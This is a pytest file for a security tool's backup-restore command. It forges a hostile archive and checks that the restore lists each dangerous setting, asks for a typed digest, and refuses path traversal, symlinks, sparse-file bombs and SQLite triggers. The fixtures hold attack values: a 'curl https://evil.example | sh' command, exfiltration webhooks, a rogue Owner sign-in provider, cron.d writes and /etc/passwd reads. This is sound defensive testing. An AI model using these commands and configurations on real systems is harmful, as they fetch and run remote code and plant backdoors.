"""A backup that somebody wrote with our own writer, hashes and all, runs nothing and lets nobody in before a person accepts that."""

from __future__ import annotations

import io
import sqlite3
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path, PurePosixPath

import pytest
from click.testing import Result

from nephoscope.access.authenticator import Guard
from nephoscope.access.scopes import Hierarchy
from nephoscope.alerts.suppression.condition import parse_conditions
from nephoscope.alerts.tuning.tuning_service import TuningEditor
from nephoscope.cli import restore as restoring
from nephoscope.lake.backup.backup_archive import ArchiveWriter
from nephoscope.posture.scans.scan import ScanRequest, save_request
from nephoscope.state import State
from nephoscope.state.access.principals import PrincipalKind, SecretKind
from nephoscope.state.access.sign_in_providers import ClaimRule, SignInProvider
from nephoscope.state.automation.automation_runs import AutomationRun, RunStatus, RunStep
from nephoscope.state.estate.tenants import Tenant, TenantConnection
from nephoscope.state.ingestion.sources import Source
from nephoscope.state.rules.rule_settings import RuleSetting

Run = Callable[..., Result]
NOW = datetime.now(UTC)
OPERATOR = """
webhook: {private: [10.0.0.0/8], ca: /tmp/own.pem}
mail: {host: smtp.example, sender: soc@example, recipients: ['*@example']}
commands: {tidy: {run: [/bin/sh, -c, 'curl https://evil.example | sh']}}
files: {notes: {folder: /etc/cron.d}}
event_hub: {hosts: ['evil.example:9093'], plain: ['evil.example:9092']}
block: {management: [0.0.0.0/0]}
pages: https://evil.example/
"""
RULE = """
name: tidy up
when: [incident.created]
actions: [{action: command, name: tidy}, {action: webhook, url: 'https://evil.example/', secret: team}]
"""


def forged(file: Path, files: dict[str, bytes]) -> Path:
    with file.open("wb") as out:
        writer = ArchiveWriter(out)
        for name, content in files.items():
            writer.add(name, io.BytesIO(content), len(content))
        writer.close("2026-11-29T00:00:00+00:00", {}, keys=False)
    return file


def hostile_state(folder: Path) -> bytes:
    """A state in which somebody decided everything that can be decided."""
    with State.open_folder(folder, "") as state:
        with state.transaction() as session:
            eve = state.principals.add(session, PrincipalKind.PERSON, "eve\n  and nothing else")
            state.principals.grant(session, eve.id, "Owner", "/", "eve")
            state.sign_in_providers.put(
                session, SignInProvider("evil", "Evil", "https://evil.example", "x", rules=(ClaimRule("sub", "7", "Owner", "/"),))
            )  # fmt: skip
            key = "/providers/microsoft.security/automations/out"
            action = {"actionType": "LogicApp", "uri": "https://evil.example"}
            state.arm_documents.put(
                session, key, "microsoft.security/automations", {"properties": {"actions": [action]}}, "eve"
            )
            exempt = "/providers/microsoft.authorization/policyexemptions/all"
            state.arm_documents.put(session, exempt, "microsoft.authorization/policyexemptions", {}, "eve")
            state.arm_documents.put(session, "/x", "microsoft.security/settings", {}, "eve")
            state.rule_settings.put(
                session, RuleSetting("default", "r", "triggerThreshold", 9999, "", None, "eve", NOW)
            )
            state.rule_switches.switch(session, "default", "rule", ["quiet"], NOW, "eve", enabled=False)
            state.learned.add(session, "default", "r", ["a", "b"], NOW)
            state.automation_runs.put(session, AutomationRun(
                "r1", "default", "tidy up", "command", {"command": "tidy"}, "incident.created", "1", {}, RunStatus.PENDING, NOW, NOW,
                NOW, step=RunStep.APPLY,
            ))  # fmt: skip
            state.automation_runs.put(session, AutomationRun(
                "r2", "default", "tidy up", "command", {"command": "undo"}, "incident.created", "1", {}, RunStatus.DONE, NOW, NOW, NOW,
                step=RunStep.APPLY, until=NOW, plan={"command": "undo"},
            ))  # fmt: skip
        state.sources.add(Source("passwords", "folder", {"paths": ["/etc"]}))
        state.tenants.add(Tenant("theirs", TenantConnection(id="11111111-2222-3333-4444-555555555555")))
        state.workspaces.set_table("default", "SigninLogs", 1)
        every = parse_conditions([{"field": "entities.ip.address", "in": ["0.0.0.0/0"]}])
        TuningEditor(state, "default", "eve", NOW).suppress("all", "*", every)
        Guard(state, lambda: Hierarchy({})).make_secret(eve, SecretKind.TOKEN, "eve")
    return (folder / "state.db").read_bytes()


WOULD = [
    "command tidy can run: /bin/sh -c 'curl https://evil.example | sh'",
    'response rule tidy up runs when incident.created: {"action":"command","name":"tidy"}',
    'run r1 of tidy up continues (pending, apply): [{"command":"tidy"},null]',
    'run r2 of tidy up continues (done, apply): [{"command":"undo"},{"command":"undo"}]',
    "responses/hook.sh is not a file that this nephoscope reads",
    "mail can send mail to *@example by smtp.example:587 as soc@example",
    "webhooks can post to private addresses: 10.0.0.0/8",
    "webhooks trusts the authorities of /tmp/own.pem",
    "event hubs can send to brokers: evil.example:9093",
    "event hubs can send without TLS to brokers: evil.example:9092",
    "messages is the address of this server's pages: https://evil.example/",
    'response rule tidy up runs when incident.created: {"action":"webhook"',
    'automation /providers/microsoft.security/automations/out does: [{"actionType":"LogicApp"',
    "User eve and nothing else is Owner at /, and signs in by 1 token",
    "sign-in provider evil grants access to users of https://evil.example with sub=7 as Owner at /",
    "tls/ca.key is a certificate or key of the server",
    "files notes can append to files in /etc/cron.d",
    'source passwords (folder) uses files or addresses of this machine: {"paths":["/etc"]}',
    "tenant theirs signs in to 11111111-2222-3333-4444-555555555555 in the cloud public",
    "request of the assessments reads /etc/passwd",
    "request of the assessments takes exemptions and attestations from /tmp/waived.json",
    "block blocks at most 50 addresses, and never 0.0.0.0/0",
    "exemption /providers/microsoft.authorization/policyexemptions/all excludes resources from assessments",
    "microsoft.security/settings 1 documents that affect assessments",
    "workspace default has the retention, in days: SigninLogs 1",
    "suppression all suppresses alerts of rule *: entities.ip.address in 0.0.0.0/0, without an end date",
    "rule quiet is disabled in default",
    "rule r has triggerThreshold = 9999 over its file in default",
    "rule r ignores 2 learned values in default",
]


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("forged")
    save_request(ScanRequest(("/etc/passwd",), decisions=("/tmp/waived.json",)), folder / "data")
    files = {
        "responses/operator.yaml": OPERATOR.encode(),
        "responses/rules/tidy.yaml": RULE.encode(),
        "responses/hook.sh": b"#!/bin/sh",
        "tls/ca.key": b"key",
        "posture/last-scan.json": (folder / "data" / "posture" / "last-scan.json").read_bytes(),
        "state.db": hostile_state(folder / "data"),
    }
    return forged(folder / "forged.tar", files)


def test_all_that_it_would_do_is_listed_by_name(archive: Path, nephoscope: Run, tmp_path: Path) -> None:
    looked = nephoscope(tmp_path / "data", "restore", archive, "--check")
    assert looked.exit_code == 0, looked.output
    lines = [line.strip() for line in looked.stderr.splitlines()]
    for would in WOULD:
        assert [line for line in lines if line.startswith(would)], would
    assert len([line for line in looked.stderr.splitlines() if line.startswith("  ")]) == len(WOULD)
    assert not (tmp_path / "data").exists()


@pytest.mark.parametrize(
    ("name", "listed"),
    [
        ("functions/default/_Im_Authentication.json", "functions/default"),
        ("content/detections/other.pack", "content/detections"),
    ],
)
def test_functions_and_content_of_others_are_listed_and_need_a_word(
    nephoscope: Run, tmp_path: Path, name: str, listed: str
) -> None:
    file = forged(tmp_path / "backup.tar", {name: b"{}"})
    looked = nephoscope(tmp_path / "new", "restore", file, "--check")
    assert listed in looked.stderr, looked.output
    assert PurePosixPath(name).stem in looked.stderr
    refused = nephoscope(tmp_path / "new", "restore", file)
    assert refused.exit_code == 2, refused.output
    assert not (tmp_path / "new").exists()


def test_it_is_restored_by_its_own_digest_alone(archive: Path, nephoscope: Run, tmp_path: Path) -> None:
    data = tmp_path / "data"
    refused = nephoscope(data, "restore", archive)
    assert (refused.exit_code, WOULD[0] in refused.stderr, data.exists()) == (2, True, False)
    other = nephoscope(data, "restore", archive, "--accept", "0" * 16)
    assert (other.exit_code, "is not the digest" in other.stderr, data.exists()) == (2, True, False)
    digest = refused.stderr.split()[-1]
    assert nephoscope(data, "restore", archive, "--accept", digest).exit_code == 0
    assert (data / "responses" / "operator.yaml").exists()
    with State.open_folder(data, "") as state:
        assert state.audit.find_newest("Nephoscope/backups/restore/action").detail["digest"] == digest


@pytest.mark.parametrize(("typed", "code"), [("right", 0), ("yes", 2)])
def test_at_a_terminal_the_digest_is_typed_below_the_list(
    archive: Path, nephoscope: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, typed: str, code: int
) -> None:
    digest = nephoscope(tmp_path, "restore", archive, "--check").stderr.split()[-1]
    monkeypatch.setattr(restoring, "_is_at_terminal", lambda: True)
    given = digest if typed == "right" else typed
    done = nephoscope(tmp_path / "data", "restore", archive, given=f"{given}\n")
    assert (done.exit_code, WOULD[0] in done.stderr) == (code, True), done.output
    assert (tmp_path / "data").exists() == (code == 0)


def test_a_state_in_which_nobody_decided_anything_needs_no_word(nephoscope: Run, tmp_path: Path) -> None:
    with State.open_folder(tmp_path / "plain", "") as state:
        state.workspaces.add("soc")
    file = forged(tmp_path / "b.tar", {"state.db": (tmp_path / "plain" / "state.db").read_bytes()})
    assert nephoscope(tmp_path / "data", "restore", file).exit_code == 0


@pytest.mark.parametrize(
    "what",
    ["CREATE TRIGGER t AFTER INSERT ON audit BEGIN DELETE FROM audit; END", "CREATE VIEW v AS SELECT 1"],
)
def test_a_state_that_does_something_by_itself_is_refused(nephoscope: Run, tmp_path: Path, what: str) -> None:
    with State.open_folder(tmp_path / "odd", ""):
        pass
    with sqlite3.connect(tmp_path / "odd" / "state.db") as database:
        database.execute(what)
    database.close()
    file = forged(tmp_path / "b.tar", {"state.db": (tmp_path / "odd" / "state.db").read_bytes()})
    for words in (("--check",), ()):
        found = nephoscope(tmp_path / "data", "restore", file, *words)
        assert (found.exit_code, "which is not part of the state" in found.stderr) == (2, True), found.output


def test_a_file_that_is_no_state_is_refused(nephoscope: Run, tmp_path: Path) -> None:
    file = forged(tmp_path / "b.tar", {"state.db": b"no database" * 100})
    found = nephoscope(tmp_path / "data", "restore", file)
    assert (found.exit_code, "is not a state database" in found.stderr) == (2, True), found.output


@pytest.mark.parametrize(
    "name", ["state.db-journal", "state.db-wal", "server.json", "pins/x", "../out", "/etc/cron.d/x"]
)
def test_names_that_no_backup_holds_are_refused(nephoscope: Run, tmp_path: Path, name: str) -> None:
    found = nephoscope(tmp_path / "data", "restore", forged(tmp_path / "b.tar", {name: b"x"}), "--check")
    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output


@pytest.mark.parametrize(
    "kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.GNUTYPE_SPARSE]
)
def test_what_is_no_plain_file_is_refused(nephoscope: Run, tmp_path: Path, kind: bytes) -> None:
    with tarfile.open(tmp_path / "b.tar", "w", format=tarfile.GNU_FORMAT) as tar:
        member = tarfile.TarInfo("content/x")
        member.type, member.linkname = kind, "/etc/passwd"
        tar.addfile(member)
    found = nephoscope(tmp_path / "data", "restore", tmp_path / "b.tar")
    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output


def test_a_file_larger_than_its_backup_is_refused(nephoscope: Run, tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "b.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        member = tarfile.TarInfo("content/x")
        member.pax_headers = {
            "GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0", "GNU.sparse.size": str(1 << 50),
            "GNU.sparse.name": "content/x",
        }  # fmt: skip
        tar.addfile(member)
    found = nephoscope(tmp_path / "data", "restore", tmp_path / "b.tar")
    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output
